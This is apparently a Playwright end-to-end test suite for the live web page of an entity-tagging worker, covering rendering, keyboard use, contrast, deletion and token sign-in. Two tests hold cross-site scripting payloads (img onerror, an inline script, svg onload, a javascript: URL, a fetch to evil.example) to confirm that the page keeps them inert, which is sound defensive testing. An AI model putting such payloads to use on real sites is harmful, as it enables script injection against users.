"""The live page of a real worker in a real headless Chromium."""

import dataclasses
import json
import os
import re
import shutil
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from model.checkpoint import load, save
from tests.end_to_end.live_worker import LiveWorker, live_worker, picture_host
from worker.settings import STARTER_CHECKPOINT

BROWSERS = ("chromium", "chromium-browser", "google-chrome")
EXAMPLES = Path(__file__).parents[2] / "worker" / "examples" / "images"
TOKEN = "a-token-of-the-tests"
HOSTILE = "<img src=https://evil.example/x onerror=alert(1)> Anna </p><script>document.title='owned'</script>"

Open = Callable[..., Page]

expect.set_options(timeout=20_000)  # the tagger may have to share its cores


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """A Chromium; where there is none the test is skipped, in CI it fails."""
    found = next(filter(None, map(shutil.which, BROWSERS)), None)
    if found is None:
        line = f"no browser here: install one of {', '.join(BROWSERS)}"
        if os.environ.get("CI") == "true":
            pytest.fail(line, pytrace=False)
        pytest.skip(line)
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=found, args=["--no-sandbox", "--disable-gpu"])
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def host() -> Iterator[tuple[str, list[str]]]:
    """The host of the example pictures, and who asked it."""
    with picture_host(EXAMPLES) as served:
        yield served


@pytest.fixture(scope="module")
def worker(host: tuple[str, list[str]], tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveWorker]:
    """A worker without attention in its events, nor a token."""
    with live_worker(tmp_path_factory.mktemp("live"), {"NAMETAG_IMAGES__ALLOW_ORIGINS": host[0]}) as worker:
        yield worker


@pytest.fixture
def visit(browser: Browser) -> Iterator[Open]:
    """Opens a page in a browser of its own; at the end nothing may have been complained of, nor come from elsewhere."""
    contexts: list[Any] = []
    faults: list[str] = []

    def visit(address: str, **options: Any) -> Page:
        context = browser.new_context(**options)
        contexts.append(context)
        page = context.new_page()
        page.on("console", lambda message: faults.append(f"console: {message.text}"))
        page.on("pageerror", lambda error: faults.append(f"error: {error}"))
        page.on("dialog", lambda dialog: faults.append(f"dialog: {dialog.message}"))

        def note(request: Any) -> None:
            if not request.url.startswith(address):
                faults.append(f"request: {request.url}")

        page.on("request", note)
        page.goto(f"{address}/live")
        expect(page.locator("#connection")).to_have_text("live")
        return page

    yield visit
    for context in contexts:
        context.close()
    assert faults == []


def post(worker: LiveWorker, page: Page, post_id: str, text: str, **fields: object) -> Any:
    """Send a post; gives its entry on the page."""
    worker.send({"id": post_id, "text": text, **fields})
    entry = page.locator(".post").filter(has=page.locator(".about bdi", has_text=re.compile(f"^{post_id}$")))
    expect(entry).to_have_count(1)
    return entry


def contrast(first: str, second: str) -> float:
    """WCAG's contrast of two colours as the browser computes them."""

    def luminance(colour: str) -> float:
        parts = [int(part) / 255 for part in re.findall(r"\d+", colour)[:3]]
        red, green, blue = (p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts)
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue

    low, high = sorted((luminance(first), luminance(second)))
    return (high + 0.05) / (low + 0.05)


def test_posts_appear_with_their_names_in_colour_and_the_attention_over_the_picture(
    worker: LiveWorker, visit: Open, host: tuple[str, list[str]]
) -> None:
    """The picture comes from the worker, under its attention, though events carry none; a press takes that off."""
    page = visit(worker.address)
    picture = f"{host[0]}/modern_baseball_stage.jpg"
    entry = post(worker, page, "stage", "so happy about Modern Baseball !", image_url=picture)
    mark = entry.locator("mark")
    assert re.fullmatch(r"Modern Baseball\s+MISC \d+%", mark.inner_text())
    assert mark.evaluate("mark => getComputedStyle(mark).backgroundColor") == "rgb(246, 220, 247)"
    button = entry.get_by_role("button", name=re.compile("Attention over the picture: most at"))
    image = entry.locator("img")
    expect(image).to_have_js_property("naturalWidth", 224)
    assert image.get_attribute("src").startswith("/live/pictures/")
    expect(entry.locator("canvas")).to_be_visible()
    button.press("Enter")
    expect(entry.locator("canvas")).to_be_hidden()
    expect(button).to_have_attribute("aria-pressed", "false")
    assert set(host[1]) == {"nametag/0.1.0"}
    assert '"attention":' not in worker.events.read_text()
    # The same once more: its features are cached, and the picture is still at hand.
    again = post(worker, page, "stage-again", "so happy about Modern Baseball !", image_url=picture)
    expect(again.locator("img")).to_have_js_property("naturalWidth", 224)


def test_where_only_features_are_kept_the_attention_is_shown_alone(
    worker: LiveWorker, visit: Open, host: tuple[str, list[str]]
) -> None:
    """A picture that was looked at while nobody watched; one that can't be had or isn't looked at is told in words."""
    pitch = f"{host[0]}/modern_baseball_pitch.jpg"
    worker.send({"id": "unseen", "text": "so happy about Modern Baseball !", "image_url": pitch})
    wait_for(lambda: '"id":"unseen"' in worker.events.read_text())
    page = visit(worker.address)
    entry = page.locator(".post").filter(has_text="unseen")
    expect(entry.get_by_role("img", name=re.compile("Attention over the picture"))).to_be_visible()
    expect(entry.locator("figcaption")).to_have_text(
        "where the tagger looked: the brighter, the more; the picture itself isn't kept"
    )
    assert entry.locator("img").count() == 0
    missing = post(worker, page, "missing", "Lisbon by night", image_url=f"{host[0]}/nope.jpg")
    expect(missing).to_contain_text("no such picture, or no such host (not_found)")
    wordless = post(worker, page, "wordless", "", image_url=pitch)
    expect(wordless).to_contain_text("the picture wasn't looked at: the post has no words to tag")


def test_a_hostile_post_stays_text(worker: LiveWorker, visit: Open) -> None:
    """Markup in caption, id, language and URL is shown as words; nothing of it runs or loads."""
    page = visit(worker.address)
    hostile_id = "\"><svg onload=alert(1)>' __proto__"
    worker.send({"id": hostile_id, "text": HOSTILE, "lang": '"><b>', "image_url": "javascript:alert(1)"})
    worker.send({"id": "bidi", "text": "abc \u202e txt.exe \u0000 end", "source": HOSTILE})
    entry = page.locator(".post").filter(has_text="evil.example")
    expect(entry).to_contain_text(hostile_id)
    expect(entry).to_contain_text("<script>document.title='owned'</script>")
    expect(page.locator(".post").filter(has_text="txt.exe")).to_contain_text("abc \ufffd txt.exe \ufffd end")
    assert page.title() == "nametag live"
    assert page.locator(".post script, .post svg, .post b").count() == 0
    # Other posts may have pictures, from the worker itself.
    assert entry.locator("img").count() == 0


def test_a_script_that_slipped_through_could_neither_run_nor_send(worker: LiveWorker, browser: Browser) -> None:
    """The second lock: the page's own policy stops inline script, markup from text, and every other host."""
    page = browser.new_page()
    page.goto(f"{worker.address}/live")
    expect(page.locator("#connection")).to_have_text("live")
    attempts = """async () => {
      const script = document.createElement("script");
      try { script.textContent = "document.title = 'owned'"; document.body.append(script); } catch { }
      let markup = "parsed";
      try { document.body.insertAdjacentHTML("beforeend", "<b>x</b>"); } catch { markup = "refused"; }
      const sent = await fetch("https://evil.example/").then(() => "sent", () => "kept");
      return [document.title, markup, sent];
    }"""
    assert page.evaluate(attempts) == ["nametag live", "refused", "kept"]
    page.close()


def test_a_tombstone_takes_the_post_off_the_page_and_its_picture(
    worker: LiveWorker, visit: Open, host: tuple[str, list[str]]
) -> None:
    """Also where the page is paused, from what waits, and for who comes later."""
    page = visit(worker.address)
    image_url = f"{host[0]}/demo_00001.jpg"
    entry = post(worker, page, "shown", "so happy about Phoenix !", image_url=image_url)
    source = entry.locator("img").get_attribute("src")
    assert urllib.request.urlopen(worker.address + source).status == 200
    pause = page.get_by_role("button", name="Pause")
    pause.press("Enter")
    worker.send({"id": "waiting", "text": "Anna is here"})
    resume = page.get_by_role("button", name="Resume (1)")
    expect(resume).to_be_visible()
    for post_id in ("shown", "waiting"):
        worker.send({"delete": {"status": {"id_str": post_id}}})
    expect(entry).to_have_count(0)
    expect(page.get_by_role("button", name="Resume", exact=True)).to_be_visible()
    with pytest.raises(urllib.error.HTTPError, match="404"):
        urllib.request.urlopen(worker.address + source)
    page.get_by_role("button", name="Resume").press("Enter")
    expect(page.locator(".post").filter(has_text="waiting")).to_have_count(0)
    later = visit(worker.address)
    post(worker, later, "after", "good luck")
    assert later.locator(".post").filter(has_text="Phoenix").count() == 0


def test_pause_and_filter_by_keyboard_alone(worker: LiveWorker, visit: Open) -> None:
    """Tab reaches the posts' link, pause, the text and the types; each works by the keyboard and is told."""
    page = visit(worker.address)
    for number, text in enumerate(("Maria in Lisbon", "Angela Merkel meets Obama", "no names at all")):
        post(worker, page, f"k{number}", text)
    told, shown = page.get_by_role("status"), page.locator(".post:visible")

    def focused() -> str:
        return str(page.evaluate("document.activeElement.id || document.activeElement.textContent"))

    page.keyboard.press("Tab")
    assert focused() == "To the posts"
    page.keyboard.press("Tab")
    assert focused() == "pause"
    page.keyboard.press("Space")
    expect(told).to_have_text("Paused.")
    worker.send({"id": "k3", "text": "Maria is here once again"})
    expect(page.locator("#pause")).to_have_text("Resume (1)")
    assert page.locator(".post").filter(has_text="once again").count() == 0
    page.keyboard.press("Enter")
    expect(told).to_have_text("Going on, with 1 new post.")
    expect(page.locator(".post").filter(has_text="once again")).to_be_visible()
    page.keyboard.press("Tab")
    assert focused() == "text"
    page.keyboard.type("maria")
    expect(shown.filter(has_text="Merkel")).to_have_count(0)
    expect(shown.filter(has_text="Maria")).to_have_count(2 + int(page.locator(".post", has_text="dinner").count()))
    expect(told).to_contain_text("posts are shown")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    page.keyboard.press("Space")
    expect(page.get_by_label("LOC")).to_be_checked()
    expect(shown).to_have_count(1)
    expect(shown).to_contain_text("Maria")
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("ControlOrMeta+a")
    page.keyboard.type("zzz")
    expect(page.get_by_text("No post here matches the filter.")).to_be_visible()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_phone_needs_no_scrolling_sideways_and_all_words_can_be_read(
    worker: LiveWorker, visit: Open, host: tuple[str, list[str]], scheme: Any
) -> None:
    """At 320 pixels, with a long word; each colour of words has a contrast of 4.5 to its ground, in both schemes."""
    page = visit(worker.address, viewport={"width": 320, "height": 640}, color_scheme=scheme)
    post(worker, page, f"long-{scheme}", f"Maria {'x' * 400} in Lisbon", image_url=f"{host[0]}/demo_00002.jpg")
    post(worker, page, f"fine-{scheme}", "watching Game of Thrones on HBO with Jerry")
    post(worker, page, f"miss-{scheme}", "Lisbon", image_url="http://10.0.0.1/x.jpg")
    width = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    assert page.evaluate(width) <= 0
    grounds = """node => {
      const style = getComputedStyle(node);
      for (let at = node; at; at = at.parentElement) {
        const ground = getComputedStyle(at).backgroundColor;
        if (!/, 0\\)$/.test(ground)) return [style.color, ground];
      }
      return [style.color, "rgb(255, 255, 255)"];
    }"""
    for selector in (
        "h1",
        "h1 span",
        "dt",
        "dd",
        "#pause",
        ".chip span",
        ".words",
        ".about span",
        ".about time",
        "#checkpoint",
    ):
        ink, ground = page.locator(selector).first.evaluate(grounds)
        assert contrast(ink, ground) >= 4.5, selector
    for mark in page.locator("mark").all():
        ink, ground = mark.evaluate(grounds)
        assert contrast(ink, ground) >= 7
    body = page.locator("body").evaluate("body => getComputedStyle(body).backgroundColor")
    assert body == {"light": "rgb(246, 247, 249)", "dark": "rgb(18, 21, 27)"}[scheme]
    small = page.locator("#pause, #text, .chip").evaluate_all("all => Math.min(...all.map(one => one.offsetHeight))")
    assert small >= 44


def test_a_screen_reader_is_told_now_and_then(worker: LiveWorker, visit: Open) -> None:
    """New posts are told in one sentence, not each; the list itself is no live region."""
    page = visit(worker.address)
    post(worker, page, "told", "Angela Merkel meets Obama in Berlin")
    expect(page.get_by_role("status")).to_contain_text("The latest: Angela Merkel", timeout=15_000)
    assert page.locator("#posts").get_attribute("aria-live") is None


def test_posts_of_one_s_own_are_tagged_and_not_shown(worker: LiveWorker, visit: Open) -> None:
    """`POST /tag` answers with the event, which stands neither on the page nor in the sink."""
    page = visit(worker.address)
    body = json.dumps({"id": "mine", "text": "Angela Merkel in Berlin"}).encode()
    request = urllib.request.Request(f"{worker.address}/tag", body, {"Content-Type": "application/json"})
    event = json.load(urllib.request.urlopen(request, timeout=20))
    assert [entity["text"] for entity in event["entities"]] == ["Angela Merkel", "Berlin"]
    post(worker, page, "behind", "and another")
    assert page.locator(".post").filter(has_text="mine").count() == 0
    wait_for(lambda: '"id":"behind"' in worker.events.read_text())
    assert '"id":"mine"' not in worker.events.read_text()


def test_a_stop_isn_t_held_up_and_the_token_keeps_strangers_out(
    browser: Browser, tmp_path: Path, host: tuple[str, list[str]]
) -> None:
    """The form and the address sign in, the token stays in neither; open pages let the worker end, and say so."""
    with live_worker(tmp_path / "run", {"NAMETAG_SERVER__TOKEN": TOKEN}) as worker:
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"{worker.address}/live")
        page.get_by_label("Token").fill(TOKEN)
        page.keyboard.press("Enter")
        expect(page.locator("#connection")).to_have_text("live")
        assert page.url == f"{worker.address}/live"
        assert page.evaluate("document.cookie") == ""
        other = browser.new_context().new_page()
        other.goto(f"{worker.address}/live?token={TOKEN}")
        expect(other.locator("#connection")).to_have_text("live")
        assert other.url == f"{worker.address}/live"
        start = time.monotonic()
        assert worker.stop() == 0
        assert time.monotonic() - start < 5
        expect(page.locator("#connection")).to_contain_text("trying again")
        context.close()
        other.context.close()
    assert TOKEN not in (tmp_path / "run" / "log.txt").read_text()


def test_a_page_comes_back_to_a_new_worker_with_what_stands_there(browser: Browser, tmp_path: Path) -> None:
    """By itself; and what the new one doesn't vouch for is gone, since nobody knows what was taken back meanwhile."""
    page = browser.new_page()
    with live_worker(tmp_path / "first") as worker:
        page.goto(f"{worker.address}/live")
        post(worker, page, "before", "Angela Merkel in Berlin")
        assert worker.stop() == 0
        expect(page.locator("#connection")).to_contain_text("trying again")
        expect(page.locator("#tagged")).to_have_text("–")
        expect(page.locator(".post")).to_have_count(1)
    with live_worker(tmp_path / "second", {"NAMETAG_SERVER__PORT": worker.address.rpartition(":")[2]}) as worker:
        expect(page.locator("#connection")).to_have_text("live", timeout=30_000)
        expect(page.locator(".post")).to_have_count(0)
        post(worker, page, "behind", "Maria in Lisbon")
    page.close()


def test_the_head_of_the_page_tells_the_checkpoint_in_use(visit: Open, tmp_path: Path) -> None:
    """With the first post after a change it is the new one, which is seen without scrolling."""
    watched = tmp_path / "current.safetensors"
    settings = {"NAMETAG_CHECKPOINTS__WATCH": str(watched), "NAMETAG_CHECKPOINTS__POLL_SECONDS": "0.2"}
    starter, old = load(STARTER_CHECKPOINT)
    with live_worker(tmp_path / "run", settings) as worker:
        page = visit(worker.address)
        header = page.get_by_role("banner")
        post(worker, page, "before", "Maria in Lisbon")
        expect(header).to_contain_text(f"checkpoint {old}, attention_gate")
        new = save(dataclasses.replace(starter, temperature=2.0), tmp_path / "new")
        (tmp_path / "new").rename(watched)
        wait_for(lambda: f'id="{new}"' in metrics(worker))
        post(worker, page, "behind", "Maria in Lisbon")
        expect(header).to_contain_text(f"checkpoint {new}, attention_gate")
        expect(header).not_to_contain_text(old)
        page.close()


def metrics(worker: LiveWorker) -> str:
    return str(urllib.request.urlopen(f"{worker.address}/metrics").read().decode())


def wait_for(condition: Callable[[], bool]) -> None:
    deadline = time.monotonic() + 20
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.05)
